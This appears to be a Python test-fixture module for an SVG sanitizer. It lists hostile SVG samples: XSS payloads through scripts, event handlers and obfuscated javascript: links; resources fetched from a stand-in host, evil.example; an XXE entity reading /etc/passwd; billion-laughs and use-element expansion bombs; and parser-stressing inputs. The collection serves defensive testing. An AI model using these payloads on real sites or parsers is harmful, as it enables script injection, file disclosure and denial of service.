"""Drawings that an attacker might send. Those of HOSTILE have a harmless copy; those of REFUSED have none."""

HTML = "http://www.w3.org/1999/xhtml"


def drawing(inside: str, root: str = 'viewBox="0 0 40 20"') -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" {root}>{inside}</svg>'.encode()


def _declared(inside: str, shown: str = "") -> bytes:
    return f"<!DOCTYPE svg [{inside}]>".encode() + drawing(f"<text>{shown}</text>")


def _laughs() -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!ENTITY l0 "ha">{entities}'


def _nested_uses(levels: int) -> str:
    rows = "".join(f'<g id="u{n}">{f"""<use href="#u{n - 1}"/>""" * 40}</g>' for n in range(1, levels))
    return f'<rect id="u0"/>{rows}'


def _chained_uses(length: int) -> str:
    return "".join(f'<g id="u{n}"><use href="#u{n - 1}"/></g>' for n in range(length, 0, -1))


HOSTILE: dict[str, bytes] = {
    name: drawing(inside)
    for name, inside in {
        "script": "<script>alert(1)</script>",
        "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
        "script in CDATA": "<script><![CDATA[alert(1)]]></script>",
        "script from elsewhere": '<script href="//evil.example/x.js"/>',
        "script under another prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
        "script of HTML": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
        "script deep inside": "<g><g><switch><script>alert(1)</script></switch></g></g>",
        "handler": '<rect onclick="alert(1)"/>',
        "handler in capitals": '<rect OnClick="alert(1)"/>',
        "handler of an animation": '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
        "link that runs": '<a href="javascript:alert(1)"><rect/></a>',
        "link spelt in references": '<a href="&#106;avascript:alert(1)"><rect/></a>',
        "link with a tab": '<a href="java&#9;script:alert(1)"><rect/></a>',
        "old link": '<a xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)"><rect/></a>',
        "animated link": '<a><rect/><animate attributeName="href" values="javascript:alert(1)"/></a>',
        "set link": '<a><rect/><set attributeName="href" to="javascript:alert(1)"/></a>',
        "use from elsewhere": '<use href="https://evil.example/x.svg#p"/>',
        "use of data": '<use href="data:image/svg+xml;base64,PHN2Zy8+#p"/>',
        "picture from elsewhere": '<image href="//evil.example/track.png"/>',
        "picture of data": '<image href="data:image/svg+xml,%3Cscript%3E"/>',
        "picture in a filter": '<filter id="f"><feImage href="//evil"/></filter><rect filter="url(#f)"/>',
        "foreign HTML": f"<foreignObject><body xmlns='{HTML}'><p>evil</p></body></foreignObject>",
        "frame": f"<foreignObject><iframe xmlns='{HTML}' src='//evil'/></foreignObject>",
        "sheet that fetches": "<style>@import url(//evil/x.css); rect{fill:url(//evil)}</style><rect/>",
        "sheet with escapes": "<style>rect{fill:u\\72l(//evil.example/)}</style><rect/>",
        "sheet in a comment": "<style>/*</style><style>*/rect{fill:url('//evil')}</style><rect/>",
        "style that fetches": '<rect style="fill:url(//evil.example/x)"/>',
        "style with a break": '<rect style="mask:url(&#10;//evil.example/x)"/>',
        "style with an expression": '<rect style="width:expression(alert(1))"/>',
        "fill that fetches": '<rect fill="url(https://evil.example/x#p)"/>',
        "fill in capitals": '<rect fill="URL(//evil.example/x#p)"/>',
        "two references": '<rect fill="url(#a) url(//evil.example)"/>',
        "cursor that fetches": '<rect cursor="url(//evil.example/x.cur),auto"/>',
        "mask of a string": "<rect mask=\"image-set('evil.png' 1x)\"/>",
        "id that breaks out": '<rect id="a&quot;&gt;&lt;script&gt;alert(1)"/>',
        "sheet beside it": '<rect/><?xml-stylesheet href="//evil.example/x.css"?>',
        "base address": '<g xml:base="https://evil.example/"><use href="x#p"/></g>',
        "handler element": '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
        "words that look like tags": "<text>&lt;b &lt;/text&gt;</text>",
        "words in hidden CDATA": "<desc><![CDATA[</desc><!-- ]]></desc>",
    }.items()
}
_NAMES = ("color", "display", "fill", "font-family", "font-size", "opacity", "overflow", "stroke")
_LOOKS = ";".join(f"{name}:abcdefgh" for name in _NAMES)

# Short, and slow for a reader who tries every way of taking them apart.
SLOW: dict[str, bytes] = {
    "view box of commas": drawing("", f'width="40" height="20" viewBox="{"," * 400_000}a"'),
    "comments that do not end": drawing(f"<style>{'/* ' * 120_000}</style>"),
    "a sheet without a brace": drawing(f"<style>{'a' * 400_000}</style>"),
}
GROWING: dict[str, bytes] = {
    "a long value in each part": drawing(
        f"<style>g{{font-family:{'b' * 100_000}}}</style>" + "<g/>" * 9000,
    ),
    "many rules for each part": drawing(
        f"<style>{','.join(['g'] * 500)}{{{_LOOKS}}}</style>" + "<g/>" * 9000
    ),
    "many looks in each part": drawing(f"<style>g{{{_LOOKS}}}</style>" + "<g/>" * 9000),
}

REFUSED: dict[str, bytes] = {
    "a thousand million laughs": _declared(_laughs(), "&l9;"),
    "entity with a file": _declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;"),
    "entity from elsewhere": _declared('<!ENTITY x SYSTEM "http://evil.example/x">', "&x;"),
    "parameter entity": _declared('<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;'),
    "one quiet entity": _declared('<!ENTITY x "y">'),
    "entity that nobody declared": drawing("<text>&nbsp;</text>"),
    "HTML": b"<!doctype html><html><script>alert(1)</script><svg></svg></html>",
    "HTML in XML": f'<html xmlns="{HTML}"><svg xmlns="http://www.w3.org/2000/svg"/></html>'.encode(),
    "HTML behind it": drawing("<rect/>") + b"<html><script>alert(1)</script></html>",
    "svg of another kind": b'<svg xmlns="urn:other" viewBox="0 0 1 1"/>',
    "cut short": drawing("<rect/>")[:-9],
    "UTF-16": drawing("<rect/>").decode().encode("utf-16"),
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns=...',
    "not text": b"<svg \xff\xfe>",
    "NUL within": drawing("<rect/>").replace(b"rect", b"re\0ct"),
    "attribute twice": drawing('<rect x="1" x="2"/>'),
    "too deep": drawing("<g>" * 5000 + "</g>" * 5000),
    "too many": drawing("<g/>" * 20_000),
    "uses that multiply": drawing(_nested_uses(5)),
    "uses in a long chain": drawing(_chained_uses(59)),
    "use of itself": drawing('<g id="a"><use href="#a"/></g>'),
    "pattern in a ring": drawing(
        '<pattern id="a"><rect fill="url(#b)"/></pattern><pattern id="b"><rect fill="url(#a)"/></pattern>'
    ),
}
